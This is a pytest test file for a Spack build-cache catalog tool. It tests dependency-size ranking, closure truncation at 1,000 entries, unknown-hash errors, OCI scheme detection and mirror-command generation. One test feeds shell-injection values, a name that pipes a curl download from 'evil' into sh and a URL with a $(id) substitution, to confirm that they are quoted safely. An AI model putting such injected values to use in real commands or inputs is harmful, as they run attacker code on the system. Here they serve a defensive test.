"""Mutation hunt: what a spec page shows that no other test pinned down (how many of the
largest dependencies it names, which, and how much of a long closure it lists)."""

from __future__ import annotations

from pathlib import Path

import pytest

from cachedex.catalog import Catalog, Edge, SpecSummary
from cachedex.errors import UnknownSpec
from cachedex.publish.spec_pages import (
    Holder,
    SpecPage,
    is_oci,
    largest_dependencies,
    mirror_commands,
    spec_page,
    spec_page_from,
)
from cachedex.values import Dependency
from tests.helpers import record, write_tag


def _edge(number: int, size: int | None, *, listed: bool = True) -> Edge:
    return Edge(f"{number:032d}", f"dep-{number}", "1", listed, size)


def _spec(path: Path) -> SpecSummary:
    with Catalog(path) as catalog:
        write_tag(catalog, "t", [record("a" * 32)], sizes={"a" * 32: 10})
        spec = catalog.spec_summary("a" * 32)
    assert spec is not None
    return spec


def _page_with_closure(tmp_path: Path, closure: list[Edge]) -> SpecPage:
    """The page of a spec held by tag t's root whose closure is ``closure``."""
    return spec_page_from(
        _spec(tmp_path / "c.sqlite"),
        holders=[Holder("t", "root", True, "/m")],
        dependencies=[],
        closure=closure,
        dependents=[],
        node="{}",
    )


def test_largest_dependencies_names_the_five_largest_largest_first() -> None:
    """Of seven sized binaries, the five largest are named, in decreasing size."""
    closure = [_edge(n, 10 * n) for n in range(1, 8)]
    named = largest_dependencies(closure, sum(10 * n for n in range(1, 8)))
    assert [edge.size for edge, _ in named] == [70, 60, 50, 40, 30]


def test_largest_dependencies_leave_out_a_dependency_without_a_binary() -> None:
    """A dependency no mirror lists is not downloaded: whatever size it had is no part of the largest."""
    closure = [_edge(1, 900, listed=False), _edge(2, 60), _edge(3, 40)]
    named = largest_dependencies(closure, 100)
    assert [(edge.name, share) for edge, share in named] == [("dep-2", "60%"), ("dep-3", "40%")]


def test_a_closure_of_exactly_a_thousand_is_listed_whole_in_order(tmp_path: Path) -> None:
    """1,000 dependencies are all listed, in their order, with nothing appended."""
    closure = [_edge(n, n) for n in range(1, 1001)]
    page = _page_with_closure(tmp_path, closure)
    assert page.closure == tuple(closure) and page.closure_count == 1000


def test_a_closure_past_a_thousand_lists_the_first_thousand_and_the_largest_past_them(tmp_path: Path) -> None:
    """1,002 dependencies: the first 1,000 by order, then the two past them that are among the largest."""
    closure = [_edge(n, n) for n in range(1, 1003)]
    page = _page_with_closure(tmp_path, closure)
    assert page.closure == (*closure[:1000], closure[1001], closure[1000])
    assert page.closure_count == 1002


def test_mirror_commands_quote_a_hostile_name_and_url_signed_or_not() -> None:
    """A name or URL with shell syntax stays one quoted argument, with or without ``--unsigned``."""
    name, url = "dev;curl evil|sh", "https://x/$(id)"
    signed = mirror_commands(name, url)
    unsigned = mirror_commands(name, url, signed=False)
    assert signed.splitlines()[0] == "spack mirror add 'dev;curl evil|sh' 'https://x/$(id)'"
    assert unsigned == "spack mirror add --unsigned 'dev;curl evil|sh' 'https://x/$(id)'"


def test_only_oci_schemes_are_oci() -> None:
    """``oci://`` and ``oci+http://`` are registries; a path or scheme merely starting with "oci" is not."""
    assert is_oci("oci://ghcr.io/x") and is_oci("oci+http://localhost:5000/x")
    assert not is_oci("ocidata/mirror") and not is_oci("ocifs://bucket/x")
    assert mirror_commands("m", "ocidata/mirror").endswith("spack buildcache keys --install --trust")


def test_spec_page_of_an_unknown_hash_raises_unknown_spec(tmp_path: Path) -> None:
    """A hash the catalog lacks is UnknownSpec naming it, not a crash."""
    with Catalog(tmp_path / "c.sqlite") as catalog:
        write_tag(catalog, "t", [record("a" * 32)])
        with pytest.raises(UnknownSpec, match="b" * 32):
            spec_page(catalog, "b" * 32)


def test_a_spec_depending_on_itself_is_not_in_its_closure(tmp_path: Path) -> None:
    """An index's edge from a spec to itself adds neither an entry nor its size twice."""
    selfish = record("a" * 32, "app", dependencies=(Dependency("a" * 32, "app", 2, ""),))
    with Catalog(tmp_path / "c.sqlite") as catalog:
        write_tag(catalog, "t", [selfish], sizes={selfish.hash: 1_000})
        page = spec_page(catalog, selfish.hash)
    assert page.closure == () and page.closure_count == 0
    assert page.closure_size == 1_000 and page.closure_binaries == 1


def test_a_download_of_zero_bytes_is_known_and_one_of_no_known_size_is_null(tmp_path: Path) -> None:
    """A binary of 0 bytes is a known size (0, none unknown); one with no size makes the total null."""
    with Catalog(tmp_path / "c.sqlite") as catalog:
        write_tag(catalog, "t", [record("a" * 32), record("b" * 32, "bzip2")], sizes={"a" * 32: 0})
        empty, unknown = spec_page(catalog, "a" * 32), spec_page(catalog, "b" * 32)
    assert (empty.closure_size, empty.closure_unknown, empty.closure_binaries) == (0, 0, 1)
    assert (unknown.closure_size, unknown.closure_unknown, unknown.closure_binaries) == (None, 1, 1)


def test_a_long_closure_whose_largest_are_listed_already_counts_all_of_it(tmp_path: Path) -> None:
    """1,001 dependencies, largest first: the first 1,000 are listed (nothing appended) and counted as 1,001."""
    closure = [_edge(n, 2_000 - n) for n in range(1, 1002)]
    page = _page_with_closure(tmp_path, closure)
    assert page.closure == tuple(closure[:1000]) and page.closure_count == 1001


def test_largest_dependencies_skip_a_binary_of_unknown_size() -> None:
    """A listed binary whose size is unknown is no candidate (and does not break the sort)."""
    closure = [_edge(1, None), _edge(2, 30), _edge(3, 70)]
    named = largest_dependencies(closure, 100)
    assert [(edge.name, share) for edge, share in named] == [("dep-3", "70%"), ("dep-2", "30%")]
